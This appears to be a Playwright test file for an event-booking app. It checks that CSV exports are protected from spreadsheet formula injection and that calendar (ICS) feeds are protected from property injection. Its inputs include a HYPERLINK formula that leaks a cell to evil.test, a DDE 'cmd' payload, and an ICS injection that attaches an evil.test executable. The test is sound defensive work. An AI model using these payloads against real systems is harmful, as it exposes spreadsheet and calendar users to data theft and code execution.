import { expect } from '@playwright/test';
import { eventCalendarPath } from '@rover/contracts/calendar';
import { readCsv } from '@rover/platform/testing/read-csv';
import ICAL from 'ical.js';
import { test } from './test.js';

/** What a spreadsheet would calculate. */
const formulas = [
  '=HYPERLINK("https://evil.test/?"&A1;"prize")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|1',
  '-2+3+cmd|1',
  '@SUM(1+9)*cmd|1',
  '\t=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '",=1+1,"',
  ';=1+1',
  'a; \u00a0+1',
];

test('no cell of an exported list is a formula, and no name breaks out of its cell', async ({
  api,
  client,
  authorization,
}) => {
  const { id: eventId } = await api.createEvent({ title: '=1+1 night', capacity: 0 });
  for (const [at, words] of formulas.entries()) {
    const named = { fullName: words, phone: words.slice(0, 40), specialRequests: `${words}\n=2+2` };
    const { status } = await api.rsvp({ eventId, ...named, email: `=a${at}@guest.test` });
    expect([words, status]).toEqual([words, 201]);
    expect((await api.bookVip({ hostName: words, hostPhone: words.slice(0, 40), specialRequests: words })).status).toBe(
      201,
    );
  }
  for (const list of [`rsvp-bookings/export?eventId=${eventId}`, 'vip-bookings/export', 'users/export']) {
    const { status, text, headers } = await client.try({
      method: 'GET',
      path: `/api/admin/${list}`,
      headers: { authorization },
    });
    expect([list, status]).toEqual([list, 200]);
    expect(headers['content-disposition']).toMatch(/^attachment; filename="[\w-]+\.csv"$/);
    const rows = readCsv(text);
    expect(rows.length).toBeGreaterThan(0);
    const cells = rows.flatMap((row) => Object.values(row));
    // As a spreadsheet sees it that separates by semicolons.
    const pieces = text.split(/[;\r\n]/);
    expect(
      [...cells, ...pieces].filter((cell) => /^[\s]*[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?\d/.test(cell)),
    ).toEqual([]);
    expect(new Set(rows.map((row) => Object.keys(row).length)).size).toBe(1);
  }
});

test('what is written into an event stays a text in the calendar', async ({ api, client }) => {
  const inject = 'END:VEVENT\nBEGIN:VEVENT\nATTACH:https://evil.test/x.exe\nATTENDEE:mailto:a@evil.test\nBEGIN:VALARM';
  for (const field of ['title', 'location']) {
    const { status } = await api.asAdmin('POST', '/api/admin/events', {
      title: 'A',
      eventDate: '2030-01-01',
      description: 'B',
      [field]: `A\r\n${inject}`,
    });
    expect([field, status]).toEqual([field, 400]);
  }
  const hostile = inject.replaceAll('\n', '\\n');
  const { slug } = await api.createEvent({
    title: `"; filename="x.exe ${hostile}`.slice(0, 200),
    description: `A\n${inject}\n`,
    location: `Quay;X-EVIL=1:${hostile}`.slice(0, 200),
    price: 'A:B;C,D"',
  });
  for (const path of [eventCalendarPath(slug), '/events.ics']) {
    const { text, headers } = await client.try({ method: 'GET', path });
    expect(String(headers['content-disposition'] ?? '')).not.toContain('exe"');
    const events = new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent');
    const mine = events.filter((event) => String(event.getFirstPropertyValue('url')).endsWith(`/${slug}`));
    expect(mine).toHaveLength(1);
    expect(mine[0]?.getAllSubcomponents('valarm')).toHaveLength(6);
    for (const event of events) {
      expect([event.getFirstProperty('attach'), event.getFirstProperty('attendee')]).toEqual([null, null]);
    }
    expect(text.split('\r\n').filter((line) => /^(ATTACH|ATTENDEE|X-EVIL)/.test(line) || line.includes('\n'))).toEqual(
      [],
    );
  }
});
